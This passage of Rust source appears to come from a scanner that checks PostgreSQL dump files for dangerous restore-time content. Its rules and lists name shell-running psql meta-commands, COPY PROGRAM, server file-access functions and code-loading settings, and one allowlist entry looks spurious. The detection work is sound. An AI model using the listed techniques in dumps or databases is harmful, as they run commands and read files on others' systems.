//! Restore-time dangers: psql meta-commands and SQL that act on the restoring client or server,
//! and statements a genuine pg_dump never writes.

use crate::rules::Severity::{self, *};
use pg_query::protobuf::{node::Node as N, ObjectType};

/// A restore-risk verdict: rule id, severity, message.
pub type Risk = (crate::rules::registry::RuleId, Severity, String);

/// Judges one psql meta-command line (`text` starts with the backslash).
pub fn meta(text: &str, after_copy: bool) -> Option<Risk> {
    let t = text.trim_end();
    let mut words = t.splitn(2, char::is_whitespace);
    let cmd = words.next().unwrap_or("");
    let args = words.next().unwrap_or("").trim();
    let gap = if after_copy {
        " right after a COPY block's \\. (smuggled into the data)"
    } else {
        ""
    };
    let crit = |id: crate::rules::registry::RuleId, what: &str| {
        Some((id, Critical, format!("psql meta-command {what}{gap}: `{}`", shorten(t))))
    };
    match cmd {
        "\\restrict" | "\\unrestrict" | "\\connect" => {
            if args.contains('`')
                || args.contains(":'")
                || args.contains(":\"")
                || (cmd != "\\connect" && args.split_whitespace().count() > 1)
            {
                return Some((
                    crate::rules::rule_id!("meta-restrict-tampered"),
                    Critical,
                    format!(
                        "{cmd} with extra text or variable/backquote expansion{gap}: `{}`",
                        shorten(t)
                    ),
                ));
            }
            if after_copy {
                return Some((
                    crate::rules::rule_id!("meta-command-in-copy-gap"),
                    High,
                    format!("{cmd} placed right after a COPY block's \\., where pg_dump never writes it"),
                ));
            }
            None
        }
        "\\!" => crit(
            crate::rules::rule_id!("meta-shell"),
            "runs a shell command on the restoring machine",
        ),
        "\\o" | "\\out" | "\\g" | "\\w" | "\\write" | "\\gx" if args.starts_with('|') => {
            crit(crate::rules::rule_id!("meta-pipe"), "pipes output to a shell command")
        }
        "\\o" | "\\out" | "\\w" | "\\write" => crit(
            crate::rules::rule_id!("meta-file-write"),
            "writes a file on the restoring machine",
        ),
        "\\copy" if args.to_ascii_lowercase().contains("program") => crit(
            crate::rules::rule_id!("meta-copy-program"),
            "runs a program through \\copy",
        ),
        "\\copy" => Some((
            crate::rules::rule_id!("meta-copy"),
            High,
            format!("psql \\copy reads or writes a client-side file{gap}: `{}`", shorten(t)),
        )),
        "\\setenv" => crit(
            crate::rules::rule_id!("meta-setenv"),
            "sets an environment variable of psql",
        ),
        "\\set" if args.contains('`') => crit(
            crate::rules::rule_id!("meta-backquote"),
            "runs a shell command through backquote expansion",
        ),
        "\\gexec" => crit(crate::rules::rule_id!("meta-gexec"), "executes query results as SQL"),
        "\\i" | "\\include" | "\\ir" | "\\include_relative" => {
            crit(crate::rules::rule_id!("meta-include"), "includes another file")
        }
        "\\lo_import" | "\\lo_export" => crit(
            crate::rules::rule_id!("meta-large-object-file"),
            "reads or writes a client-side file",
        ),
        "\\cd" => crit(crate::rules::rule_id!("meta-cd"), "changes psql's working directory"),
        _ if t.contains('`') => crit(
            crate::rules::rule_id!("meta-backquote"),
            "runs a shell command through backquote expansion",
        ),
        // Settings and output of psql alone (`\set ON_ERROR_STOP on` makes a restore safer):
        // a sign of a hand edit, nothing more.
        "\\set" | "\\unset" | "\\pset" | "\\echo" | "\\qecho" | "\\timing" | "\\x" | "\\a" | "\\t" => Some((
            crate::rules::rule_id!("meta-unexpected"),
            Low,
            format!("psql meta-command that pg_dump never writes{gap}: `{}`", shorten(t)),
        )),
        _ => Some((
            crate::rules::rule_id!("meta-unexpected"),
            Medium,
            format!("psql meta-command that pg_dump never writes{gap}: `{}`", shorten(t)),
        )),
    }
}

/// pg_dump releases from which a plain dump starts with `\restrict KEY` (the CVE-2025-8714 fix):
/// 17.6, 16.10, 15.14, 14.19, 13.22, and every major version after 17.
pub fn writes_restrict(pg_dump_version: &str) -> bool {
    let Some(v) = crate::util::version::PgVersion::parse(pg_dump_version) else {
        return false;
    };
    // The releases of 14 August 2025 (CVE-2025-8714) and everything after: 18 from its third
    // beta on.
    if let Some((kind, n)) = v.pre_release() {
        return v.major > 18 || (v.major == 18 && (kind == "rc" || (kind == "beta" && n >= 3)));
    }
    match v.major {
        13 => v.minor >= 22,
        14 => v.minor >= 19,
        15 => v.minor >= 14,
        16 => v.minor >= 10,
        17 => v.minor >= 6,
        m => m >= 18,
    }
}

fn shorten(s: &str) -> String {
    if s.chars().count() > 80 {
        format!("{}…", s.chars().take(80).collect::<String>())
    } else {
        s.to_string()
    }
}

/// Names (without schema) of the functions a statement calls, from its parse tree.
fn func_names(node: &N) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for (n, ..) in node.nodes() {
        if let pg_query::NodeRef::FuncCall(f) = n {
            if let Some(name) = f.funcname.last().and_then(crate::sql::types::str_node) {
                let name = name.to_ascii_lowercase();
                if !out.contains(&name) {
                    out.push(name);
                }
            }
        }
    }
    out
}

/// pg_dump 18's statistics (`--statistics`, and the default of some 18 betas), exactly as it
/// writes them: `SELECT * FROM pg_catalog.pg_restore_relation_stats(...)` or
/// `pg_restore_attribute_stats(...)`, every argument a constant or a cast constant, and nothing
/// else in the statement. A call of another shape (a subquery or function among the arguments,
/// a WHERE, another target) is still reported.
fn is_statistics_call(sel: &pg_query::protobuf::SelectStmt) -> bool {
    use pg_query::protobuf::Node;
    // A cast to a type the dump defines (a domain with a CHECK) would run its code: only
    // built-in types, as pg_dump writes them (`::integer` is pg_catalog.int4, `::text` is text).
    let builtin = |t: &pg_query::protobuf::TypeName| {
        let names: Vec<&str> = t.names.iter().filter_map(crate::sql::types::str_node).collect();
        matches!(
            names.as_slice(),
            ["pg_catalog", _] | ["text" | "name" | "regclass" | "oid"]
        )
    };
    let constant = |n: &Node| match node(n) {
        Some(N::AConst(_)) => true,
        Some(N::TypeCast(c)) => {
            matches!(c.arg.as_deref().and_then(node), Some(N::AConst(_))) && c.type_name.as_ref().is_some_and(builtin)
        }
        _ => false,
    };
    let star = match sel.target_list.as_slice() {
        [t] => matches!(node(t), Some(N::ResTarget(r))
            if matches!(r.val.as_deref().and_then(node), Some(N::ColumnRef(c))
                if matches!(c.fields.as_slice(), [f] if matches!(node(f), Some(N::AStar(_)))))),
        _ => false,
    };
    let plain = sel.where_clause.is_none()
        && sel.group_clause.is_empty()
        && sel.having_clause.is_none()
        && sel.with_clause.is_none()
        && sel.distinct_clause.is_empty()
        && sel.sort_clause.is_empty()
        && sel.limit_count.is_none()
        && sel.limit_offset.is_none()
        && sel.into_clause.is_none()
        && sel.larg.is_none()
        && sel.rarg.is_none();
    let [from] = sel.from_clause.as_slice() else {
        return false;
    };
    let Some(N::RangeFunction(rf)) = node(from) else {
        return false;
    };
    let [f] = rf.functions.as_slice() else { return false };
    let Some(N::List(l)) = node(f) else { return false };
    let Some(Some(N::FuncCall(call))) = l.items.first().map(node) else {
        return false;
    };
    let name: Vec<&str> = call.funcname.iter().filter_map(crate::sql::types::str_node).collect();
    star && plain
        && !rf.lateral
        && !rf.ordinality
        && matches!(
            name.as_slice(),
            ["pg_catalog", "pg_restore_relation_stats" | "pg_restore_attribute_stats"]
        )
        && call.args.iter().all(constant)
        && call.agg_filter.is_none()
        && call.over.is_none()
}

/// The node inside a protobuf wrapper.
fn node(n: &pg_query::protobuf::Node) -> Option<&N> {
    n.node.as_ref()
}

/// pg_dumpall --clean's own UPDATE before it drops a template database:
/// `UPDATE pg_catalog.pg_database SET datistemplate = false WHERE datname = '...'`.
fn is_template_reset(u: &pg_query::protobuf::UpdateStmt) -> bool {
    let rel = u
        .relation
        .as_ref()
        .is_some_and(|r| r.schemaname == "pg_catalog" && r.relname == "pg_database");
    let set = match u.target_list.as_slice() {
        [t] => matches!(node(t), Some(N::ResTarget(r)) if r.name == "datistemplate"
            && matches!(r.val.as_deref().and_then(node), Some(N::AConst(c))
                if matches!(&c.val, Some(pg_query::protobuf::a_const::Val::Boolval(b)) if !b.boolval))),
        _ => false,
    };
    let cond = match u.where_clause.as_deref().and_then(node) {
        Some(N::AExpr(e)) => {
            e.name.iter().filter_map(crate::sql::types::str_node).eq(["="])
                && matches!(e.lexpr.as_deref().and_then(node), Some(N::ColumnRef(c))
                    if c.fields.iter().filter_map(crate::sql::types::str_node).eq(["datname"]))
                && matches!(e.rexpr.as_deref().and_then(node), Some(N::AConst(_)))
        }
        _ => false,
    };
    rel && set && cond && u.from_clause.is_empty() && u.returning_clause.is_none() && u.with_clause.is_none()
}

/// `ALTER TABLE t DISABLE TRIGGER ALL` / `ENABLE TRIGGER ALL`: what pg_dump --disable-triggers
/// writes around a table's data.
pub fn is_trigger_toggle(node: &N) -> bool {
    let N::AlterTableStmt(a) = node else { return false };
    !a.cmds.is_empty()
        && a.cmds.iter().all(|c| {
            matches!(c.node.as_ref(), Some(N::AlterTableCmd(cmd))
            if matches!(
                pg_query::protobuf::AlterTableType::try_from(cmd.subtype),
                Ok(pg_query::protobuf::AlterTableType::AtDisableTrigAll
                    | pg_query::protobuf::AlterTableType::AtEnableTrigAll)
            ))
        })
}

/// SQL functions pg_dump itself calls in a plain dump.
const PG_DUMP_FUNCS: &[&str] = &[
    "set_config",
    "setval",
    "lo_create",
    "lo_open",
    "lowrite",
    "lo_close",
    "lo_from_bytea",
    "pg_sleep_for_nothing",
];

/// Server-side functions that read or write files or run programs.
const FILE_FUNCS: &[(&str, Severity)] = &[
    ("lo_import", Critical),
    ("lo_export", Critical),
    ("pg_read_file", Critical),
    ("pg_read_binary_file", Critical),
    ("pg_ls_dir", High),
    ("pg_stat_file", High),
    ("pg_file_write", Critical),
    ("dblink_exec", High),
    ("dblink", High),
    ("pg_terminate_backend", High),
    ("pg_reload_conf", High),
];

const UNTRUSTED_LANGS: &[&str] = &[
    "plpythonu",
    "plpython2u",
    "plpython3u",
    "plperlu",
    "pltclu",
    "plsh",
    "plr",
    "pljavau",
    "plv8u",
];
const TRUSTED_EXTENSIONS: &[&str] = &[
    "plpgsql",
    "pgcrypto",
    "hstore",
    "citext",
    "uuid-ossp",
    "pg_trgm",
    "btree_gin",
    "btree_gist",
    "cube",
    "earthdistance",
    "fuzzystrmatch",
    "intarray",
    "isn",
    "lo",
    "ltree",
    "seg",
    "tablefunc",
    "tcn",
    "tsm_system_rows",
    "tsm_system_time",
    "unaccent",
    "bloom",
    "pg_stat_statements",
    "postgis",
    "postgis_topology",
    "postgis_raster",
    "pgrowlocks",
    "pgstattuple",
    "pg_buffercache",
    "pg_prewarm",
    "pg_visibility",
    "amcheck",
    "dict_int",
    "dict_xsyn",
    "intagg",
    "pg_freespacemap",
    "sslinfo",
    "xml2",
    "plperl",
    "pltcl",
    "postgres_fdw",
    "vector",
    "timescaledb",
    "pg_partman",
    "pgrouting",
    "address_standardizer",
    "hypopg",
    "pg_repack",
    "pg_cron",
];
const DANGEROUS_PARAMS: &[&str] = &[
    "session_preload_libraries",
    "local_preload_libraries",
    "shared_preload_libraries",
    "dynamic_library_path",
    "archive_command",
    "restore_command",
    "ssl_passphrase_command",
    "log_directory",
    "data_directory",
];
const SERVER_ROLES: &[&str] = &[
    "pg_execute_server_program",
    "pg_read_server_files",
    "pg_write_server_files",
    "pg_write_all_data",
    "pg_read_all_data",
    "pg_signal_backend",
];

fn def_names(opts: &[pg_query::protobuf::Node]) -> Vec<(String, String)> {
    crate::sql::catalog::def_elems(opts)
        .into_iter()
        .map(|(k, v, _)| (k, v))
        .collect()
}

/// What a genuine pg_dump run knows: context for judging a statement.
#[derive(Default)]
pub struct Context {
    /// Triggers and rules seen so far, by the table they act on: (what, name, line, offset).
    /// If that table's data comes later, they fire during the restore.
    pub armed: std::collections::HashMap<String, Vec<(&'static str, String, u64, usize)>>,
    /// Where unqualified names resolve (the catalog's search path), so a trigger on `users`
    /// is armed on the `public.users` whose data comes later.
    pub search_schema: Option<String>,
    /// A plain pg_dump_all globals section is being read (CREATE ROLE x; ALTER ROLE x WITH ...).
    pub created_roles: std::collections::HashSet<String>,
    /// Roles given SUPERUSER so far, in order: pg_dumpall writes the cluster's bootstrap
    /// superuser (whatever initdb -U or POSTGRES_USER named it) like any other role.
    pub superusers: Vec<String>,
}

/// A library in the server's own `$libdir` of a module known to be safe (a dump from before
/// CREATE EXTENSION, 9.1, holds its functions one by one). intarray's library is `_int`;
/// PostGIS's carry their version (`postgis-3`, `rtpostgis-2.0`).
fn contrib_library(lib: &str) -> bool {
    let Some(m) = lib.strip_prefix("$libdir/") else {
        return false;
    };
    let m = m.strip_suffix(".so").unwrap_or(m);
    m == "_int"
        || TRUSTED_EXTENSIONS.contains(&m)
        || ["postgis-", "rtpostgis-", "postgis_topology-"]
            .iter()
            .any(|p| m.starts_with(p))
}

/// Judges one parsed statement.
pub fn statement(node: &N, sql: &str, ctx: &mut Context, line: u64, offset: usize) -> Vec<Risk> {
    let mut out = Vec::new();
    match node {
        N::CopyStmt(c) if c.is_program => out.push((
            crate::rules::rule_id!("copy-program"),
            Critical,
            format!(
                "COPY {} PROGRAM runs `{}` on the database server",
                if c.is_from { "FROM" } else { "TO" },
                shorten(&c.filename)
            ),
        )),
        N::CopyStmt(c) if !c.filename.is_empty() => out.push((
            crate::rules::rule_id!("copy-file"),
            High,
            format!(
                "COPY {} a server-side file `{}`",
                if c.is_from { "FROM" } else { "TO" },
                shorten(&c.filename)
            ),
        )),
        N::AlterSystemStmt(_) => out.push((
            crate::rules::rule_id!("alter-system"),
            Critical,
            format!(
                "ALTER SYSTEM changes the server's configuration: `{}`",
                shorten(sql.trim())
            ),
        )),
        N::LoadStmt(l) => out.push((
            crate::rules::rule_id!("load-library"),
            Critical,
            format!("LOAD loads the shared library `{}` into the server", l.filename),
        )),
        N::DoStmt(_) => out.push((
            crate::rules::rule_id!("do-block"),
            High,
            "DO block: runs code during the restore (pg_dump never writes DO)".into(),
        )),
        N::CreateEventTrigStmt(e) => out.push((
            crate::rules::rule_id!("event-trigger"),
            High,
            format!("event trigger {} fires on later DDL", e.trigname),
        )),
        N::CreateFunctionStmt(f) => {
            let opts = def_names(&f.options);
            let lang = opts
                .iter()
                .find(|(k, _)| k == "language")
                .map(|(_, v)| v.to_ascii_lowercase())
                .unwrap_or_default();
            let name = f
                .funcname
                .iter()
                .filter_map(crate::sql::types::str_node)
                .collect::<Vec<_>>()
                .join(".");
            if UNTRUSTED_LANGS.contains(&lang.as_str()) {
                out.push((crate::rules::rule_id!("untrusted-language"), High, format!("function {name} is written in the untrusted language {lang}: it can run anything as the server's OS user")));
            } else if lang == "c" {
                // `AS 'library', 'symbol'`.
                let lib = opts
                    .iter()
                    .find(|(k, _)| k == "as")
                    .and_then(|(_, v)| v.split(',').next())
                    .unwrap_or_default();
                out.push(if contrib_library(lib) {
                    (
                        crate::rules::rule_id!("c-language-function"),
                        Low,
                        format!("function {name} loads native code from {lib}, a contrib module's library (as the module's install script did before CREATE EXTENSION)"),
                    )
                } else {
                    (
                        crate::rules::rule_id!("c-language-function"),
                        Medium,
                        format!("function {name} loads native code from the shared library {}", shorten(lib)),
                    )
                });
            }
            if opts.iter().any(|(k, v)| k == "security" && (v == "true" || v == "1")) {
                let pinned = opts.iter().any(|(k, v)| k == "set" && v.contains("search_path"));
                let msg = if pinned { "" } else { " and does not pin search_path" };
                out.push((
                    crate::rules::rule_id!("security-definer"),
                    Low,
                    format!("function {name} is SECURITY DEFINER (runs with its owner's rights){msg}"),
                ));
            }
        }
        N::CreateExtensionStmt(e) if !TRUSTED_EXTENSIONS.contains(&e.extname.as_str()) => {
            let name = e.extname.as_str();
            let (sev, why) = match name {
                "plpython3u" | "plperlu" | "pltclu" | "plsh" => {
                    (High, "an untrusted language (runs code as the server's OS user)")
                }
                "adminpack" | "file_fdw" => (High, "reads or writes files on the server"),
                // HTTP from SQL (Supabase's pg_net, pgsql-http, pg_curl) and cloud calls (RDS).
                "dblink" | "pg_net" | "http" | "pg_curl" | "aws_s3" | "aws_lambda" | "aws_commons" => {
                    (High, "gives SQL network access from the server")
                }
                _ => (Medium, "not a known-safe contrib extension"),
            };
            out.push((
                crate::rules::rule_id!("extension"),
                sev,
                format!("CREATE EXTENSION {name}: {why}"),
            ));
        }
        N::CreateRoleStmt(r) => {
            for (k, v) in def_names(&r.options) {
                if ["superuser", "replication", "bypassrls", "createrole"].contains(&k.as_str())
                    && (v == "true" || v == "1")
                {
                    let sev = if k == "superuser" { High } else { Medium };
                    out.push((
                        crate::rules::rule_id!("privileged-role"),
                        sev,
                        format!("role {} is created with {}", r.role, k.to_uppercase()),
                    ));
                }
            }
        }
        N::AlterRoleStmt(r) => {
            let name = r.role.as_ref().map(|x| x.rolename.clone()).unwrap_or_default();
            for (k, v) in def_names(&r.options) {
                if ["superuser", "replication", "bypassrls", "createrole"].contains(&k.as_str())
                    && (v == "true" || v == "1")
                {
                    // pg_dumpall writes every role as CREATE ROLE x; ALTER ROLE x WITH ...
                    let genuine = ctx.created_roles.contains(&name);
                    // Every cluster has one superuser, its bootstrap role; pg_dumpall writes it
                    // with SUPERUSER. A second one (postgres aside) is a choice of the source's.
                    let mut note = " (as pg_dumpall writes it)".to_string();
                    let sev = if !genuine {
                        note.clear();
                        High
                    } else if k == "superuser" {
                        let first = ctx.superusers.first().cloned();
                        ctx.superusers.push(name.clone());
                        match first {
                            Some(other) if name != "postgres" && other != name => {
                                note = format!(", a second superuser besides {other}");
                                Medium
                            }
                            _ => Info,
                        }
                    } else {
                        Info
                    };
                    out.push((
                        crate::rules::rule_id!("privileged-role"),
                        sev,
                        format!("role {name} is given {}{note}", k.to_uppercase()),
                    ));
                }
            }
        }
        N::AlterRoleSetStmt(s) => setting(s.setstmt.as_ref(), "ALTER ROLE ... SET", &mut out),
        N::AlterDatabaseSetStmt(s) => setting(s.setstmt.as_ref(), "ALTER DATABASE ... SET", &mut out),
        N::VariableSetStmt(v) if DANGEROUS_PARAMS.contains(&v.name.as_str()) => {
            out.push((
                crate::rules::rule_id!("dangerous-setting"),
                Critical,
                format!("SET {} loads code or runs commands", v.name),
            ));
        }
        N::GrantRoleStmt(g) => {
            for r in &g.granted_roles {
                if let Some(N::AccessPriv(p)) = r.node.as_ref() {
                    if SERVER_ROLES.contains(&p.priv_name.as_str()) || p.priv_name == "postgres" {
                        let sev = if p.priv_name.contains("server") || p.priv_name == "postgres" {
                            Critical
                        } else {
                            High
                        };
                        out.push((
                            crate::rules::rule_id!("grant-privileged-role"),
                            sev,
                            format!("GRANT {} gives file or program access on the server", p.priv_name),
                        ));
                    }
                }
            }
        }
        N::SelectStmt(sel) if is_statistics_call(sel) => {}
        N::SelectStmt(_) => {
            for f in func_names(node) {
                if let Some((_, sev)) = FILE_FUNCS.iter().find(|(n, _)| *n == f) {
                    out.push((
                        crate::rules::rule_id!("server-file-access"),
                        *sev,
                        format!("SELECT calls {f}(): file or program access on the server"),
                    ));
                } else if !PG_DUMP_FUNCS.contains(&f.as_str()) && !f.starts_with("binary_upgrade_") {
                    out.push((
                        crate::rules::rule_id!("unexpected-select"),
                        Medium,
                        format!("SELECT calls {f}(), which pg_dump never does"),
                    ));
                }
            }
        }
        N::UpdateStmt(u) if is_template_reset(u) => {}
        N::UpdateStmt(_) | N::DeleteStmt(_) | N::TruncateStmt(_) | N::MergeStmt(_) => out.push((
            crate::rules::rule_id!("unexpected-dml"),
            Medium,
            format!(
                "data-changing statement pg_dump never writes: `{}`",
                shorten(sql.trim())
            ),
        )),
        N::CreateTrigStmt(t) => {
            if let Some(rv) = &t.relation {
                let schema = crate::sql::catalog::schema_in(&rv.schemaname, ctx.search_schema.as_deref());
                let q = crate::sql::catalog::qualify(schema, &rv.relname);
                ctx.armed
                    .entry(q)
                    .or_default()
                    .push(("trigger", t.trigname.clone(), line, offset));
            }
        }
        N::RuleStmt(r) if r.event != pg_query::protobuf::CmdType::CmdSelect as i32 => {
            if let Some(rv) = &r.relation {
                let schema = crate::sql::catalog::schema_in(&rv.schemaname, ctx.search_schema.as_deref());
                let q = crate::sql::catalog::qualify(schema, &rv.relname);
                ctx.armed
                    .entry(q)
                    .or_default()
                    .push(("rule", r.rulename.clone(), line, offset));
            }
        }
        N::DropStmt(d) => {
            let what = if d.remove_type == ObjectType::ObjectTable as i32 {
                "tables"
            } else {
                "objects"
            };
            out.push((
                crate::rules::rule_id!("drop"),
                Low,
                format!("the restore drops existing {what}: `{}`", shorten(sql.trim())),
            ));
        }
        N::DropdbStmt(d) => out.push((
            crate::rules::rule_id!("drop-database"),
            Medium,
            format!("the restore drops the database {}", d.dbname),
        )),
        _ => {}
    }
    if let Some(n) = newline_name(node) {
        out.push((
            crate::rules::rule_id!("name-with-newline"),
            Medium,
            format!(
                "object name with a line break (\"{}\"): a way to disguise SQL as a comment or a comment as SQL",
                shorten(&n)
            ),
        ));
    }
    out
}

/// The statement kinds pg_dump writes first under a TOC comment of type `desc` (None: a type
/// this profile does not cover, so not checked). `insert` is what the INSERT fast path passes
/// (no parse tree).
pub fn toc_expects(desc: &str) -> Option<&'static [&'static str]> {
    Some(match desc {
        "TABLE" => &["CreateStmt"],
        "VIEW" => &["ViewStmt"],
        "MATERIALIZED VIEW" => &["CreateTableAsStmt"],
        "MATERIALIZED VIEW DATA" => &["RefreshMatViewStmt"],
        "SEQUENCE" => &["CreateSeqStmt", "AlterTableStmt"],
        "SEQUENCE OWNED BY" => &["AlterSeqStmt"],
        "SEQUENCE SET" => &["SelectStmt"],
        "TABLE DATA" => &["CopyStmt", "insert"],
        "FUNCTION" | "PROCEDURE" => &["CreateFunctionStmt"],
        "AGGREGATE" | "COLLATION" | "OPERATOR" | "SHELL TYPE" => &["DefineStmt"],
        "TYPE" => &["CompositeTypeStmt", "CreateEnumStmt", "CreateRangeStmt", "DefineStmt"],
        "DOMAIN" => &["CreateDomainStmt"],
        "SCHEMA" => &["CreateSchemaStmt", "AlterOwnerStmt"],
        "EXTENSION" => &["CreateExtensionStmt"],
        "INDEX" => &["IndexStmt"],
        "INDEX ATTACH" | "TABLE ATTACH" | "CONSTRAINT" | "FK CONSTRAINT" | "DEFAULT" | "ROW SECURITY" => {
            &["AlterTableStmt"]
        }
        // Separately dumped (NOT VALID) checks, on tables or domains.
        "CHECK CONSTRAINT" => &["AlterTableStmt", "AlterDomainStmt"],
        // A partition's clone of a disabled parent trigger is dumped as ALTER TABLE ... DISABLE.
        "TRIGGER" => &["CreateTrigStmt", "AlterTableStmt"],
        "EVENT TRIGGER" => &["CreateEventTrigStmt"],
        // A view in a dependency loop is dumped as its _RETURN rule: CREATE OR REPLACE VIEW.
        "RULE" => &["RuleStmt", "ViewStmt"],
        "POLICY" => &["CreatePolicyStmt"],
        "COMMENT" => &["CommentStmt"],
        "ACL" => &["GrantStmt", "GrantRoleStmt", "AlterDefaultPrivilegesStmt"],
        "DEFAULT ACL" => &["AlterDefaultPrivilegesStmt"],
        "FOREIGN TABLE" => &["CreateForeignTableStmt"],
        "SERVER" => &["CreateForeignServerStmt"],
        "FOREIGN DATA WRAPPER" => &["CreateFdwStmt"],
        "USER MAPPING" => &["CreateUserMappingStmt"],
        "PUBLICATION" => &["CreatePublicationStmt"],
        "PUBLICATION TABLE" | "PUBLICATION TABLES IN SCHEMA" => &["AlterPublicationStmt"],
        "SUBSCRIPTION" => &["CreateSubscriptionStmt"],
        "CAST" => &["CreateCastStmt"],
        "CONVERSION" => &["CreateConversionStmt"],
        "OPERATOR CLASS" => &["CreateOpClassStmt"],
        "OPERATOR FAMILY" => &["CreateOpFamilyStmt"],
        "STATISTICS" => &["CreateStatsStmt"],
        // Before 9.0 a language was created with CREATE [PROCEDURAL] LANGUAGE name, which
        // today's grammar reads as CREATE EXTENSION.
        "PROCEDURAL LANGUAGE" => &["CreatePLangStmt", "CreateExtensionStmt"],
        "TRANSFORM" => &["CreateTransformStmt"],
        "ACCESS METHOD" => &["CreateAmStmt"],
        "DATABASE" => &["CreatedbStmt"],
        "SECURITY LABEL" => &["SecLabelStmt"],
        "TEXT SEARCH PARSER" | "TEXT SEARCH TEMPLATE" | "TEXT SEARCH DICTIONARY" | "TEXT SEARCH CONFIGURATION" => {
            &["DefineStmt"]
        }
        _ => return None,
    })
}

/// The parse-tree kind of a statement, as [`toc_expects`] names it.
pub fn kind_of(node: &N) -> &'static str {
    match node {
        N::CreateStmt(_) => "CreateStmt",
        N::ViewStmt(_) => "ViewStmt",
        N::CreateTableAsStmt(_) => "CreateTableAsStmt",
        N::RefreshMatViewStmt(_) => "RefreshMatViewStmt",
        N::CreateSeqStmt(_) => "CreateSeqStmt",
        N::AlterSeqStmt(_) => "AlterSeqStmt",
        N::AlterTableStmt(_) => "AlterTableStmt",
        N::AlterDomainStmt(_) => "AlterDomainStmt",
        N::SelectStmt(_) => "SelectStmt",
        N::CopyStmt(_) => "CopyStmt",
        N::InsertStmt(_) => "insert",
        N::CreateFunctionStmt(_) => "CreateFunctionStmt",
        N::DefineStmt(_) => "DefineStmt",
        N::CompositeTypeStmt(_) => "CompositeTypeStmt",
        N::CreateEnumStmt(_) => "CreateEnumStmt",
        N::CreateRangeStmt(_) => "CreateRangeStmt",
        N::CreateDomainStmt(_) => "CreateDomainStmt",
        N::CreateSchemaStmt(_) => "CreateSchemaStmt",
        N::AlterOwnerStmt(_) => "AlterOwnerStmt",
        N::CreateExtensionStmt(_) => "CreateExtensionStmt",
        N::IndexStmt(_) => "IndexStmt",
        N::CreateTrigStmt(_) => "CreateTrigStmt",
        N::CreateEventTrigStmt(_) => "CreateEventTrigStmt",
        N::RuleStmt(_) => "RuleStmt",
        N::CreatePolicyStmt(_) => "CreatePolicyStmt",
        N::CommentStmt(_) => "CommentStmt",
        N::GrantStmt(_) => "GrantStmt",
        N::GrantRoleStmt(_) => "GrantRoleStmt",
        N::AlterDefaultPrivilegesStmt(_) => "AlterDefaultPrivilegesStmt",
        N::CreateForeignTableStmt(_) => "CreateForeignTableStmt",
        N::CreateForeignServerStmt(_) => "CreateForeignServerStmt",
        N::CreateFdwStmt(_) => "CreateFdwStmt",
        N::CreateUserMappingStmt(_) => "CreateUserMappingStmt",
        N::CreatePublicationStmt(_) => "CreatePublicationStmt",
        N::AlterPublicationStmt(_) => "AlterPublicationStmt",
        N::CreateSubscriptionStmt(_) => "CreateSubscriptionStmt",
        N::CreateCastStmt(_) => "CreateCastStmt",
        N::CreateConversionStmt(_) => "CreateConversionStmt",
        N::CreateOpClassStmt(_) => "CreateOpClassStmt",
        N::CreateOpFamilyStmt(_) => "CreateOpFamilyStmt",
        N::CreateStatsStmt(_) => "CreateStatsStmt",
        N::CreatePlangStmt(_) => "CreatePLangStmt",
        N::CreateTransformStmt(_) => "CreateTransformStmt",
        N::CreateAmStmt(_) => "CreateAmStmt",
        N::CreatedbStmt(_) => "CreatedbStmt",
        N::SecLabelStmt(_) => "SecLabelStmt",
        N::VariableSetStmt(_) => "SET",
        N::UpdateStmt(_) => "UPDATE",
        N::DeleteStmt(_) => "DELETE",
        N::DoStmt(_) => "DO",
        _ => "other",
    }
}

/// pg_dump's sections by TOC type: 1 pre-data, 2 data, 3 post-data (None: either, like
/// comments and ACLs).
pub fn section_of(desc: &str) -> Option<u8> {
    match desc {
        "TABLE DATA" | "BLOBS" | "BLOB" | "BLOB METADATA" | "LARGE OBJECT" => Some(2),
        // "CONSTRAINT" is in neither: pg_dump moves a primary key a view depends on (GROUP BY
        // its table's key) to pre-data, before the views and materialized views (below).
        "INDEX"
        | "INDEX ATTACH"
        | "CHECK CONSTRAINT"
        | "FK CONSTRAINT"
        | "TRIGGER"
        | "RULE"
        | "POLICY"
        | "ROW SECURITY"
        | "EVENT TRIGGER"
        | "MATERIALIZED VIEW DATA"
        | "PUBLICATION"
        | "PUBLICATION TABLE"
        | "PUBLICATION TABLES IN SCHEMA"
        | "SUBSCRIPTION"
        | "STATISTICS" => Some(3),
        // pg_dump before 9.2 wrote a sequence's SEQUENCE SET right after it, among the
        // definitions (8.4 and 9.1 dumps do); later ones write it with the data. And it moves
        // a materialized view caught in a dependency loop to post-data.
        "SEQUENCE SET"
        | "CONSTRAINT"
        | "MATERIALIZED VIEW"
        | "COMMENT"
        | "ACL"
        | "DEFAULT ACL"
        | "SECURITY LABEL"
        | "DATABASE"
        | "DATABASE PROPERTIES"
        | "ENCODING"
        | "STDSTRINGS"
        | "SEARCHPATH" => None,
        _ => toc_expects(desc).map(|_| 1),
    }
}

/// An object name with a line break: pg_dump writes such names quoted, but they are a known way
/// to make SQL look like a comment or a comment look like SQL.
fn newline_name(node: &N) -> Option<String> {
    let bad = |s: &str| s.contains(['\n', '\r']);
    let names: Vec<&str> = match node {
        N::CreateStmt(c) => {
            let mut v: Vec<&str> = c.relation.iter().map(|r| r.relname.as_str()).collect();
            for e in &c.table_elts {
                if let Some(N::ColumnDef(d)) = &e.node {
                    v.push(&d.colname);
                }
            }
            v
        }
        N::ViewStmt(v) => v.view.iter().map(|r| r.relname.as_str()).collect(),
        N::CreateSeqStmt(q) => q.sequence.iter().map(|r| r.relname.as_str()).collect(),
        N::IndexStmt(i) => vec![i.idxname.as_str()],
        N::CreateSchemaStmt(c) => vec![c.schemaname.as_str()],
        N::CreateTrigStmt(t) => vec![t.trigname.as_str()],
        N::RuleStmt(r) => vec![r.rulename.as_str()],
        N::CreatePolicyStmt(p) => vec![p.policy_name.as_str()],
        N::CreateFunctionStmt(f) => f.funcname.iter().filter_map(crate::sql::types::str_node).collect(),
        N::CreateDomainStmt(d) => d.domainname.iter().filter_map(crate::sql::types::str_node).collect(),
        N::CreateEnumStmt(e) => e.type_name.iter().filter_map(crate::sql::types::str_node).collect(),
        N::CompositeTypeStmt(c) => c.typevar.iter().map(|r| r.relname.as_str()).collect(),
        _ => Vec::new(),
    };
    names
        .into_iter()
        .find(|n| bad(n))
        .map(|n| n.replace('\n', "\\n").replace('\r', "\\r"))
}

fn setting(s: Option<&pg_query::protobuf::VariableSetStmt>, what: &str, out: &mut Vec<Risk>) {
    let Some(s) = s else { return };
    if DANGEROUS_PARAMS.contains(&s.name.as_str()) {
        out.push((
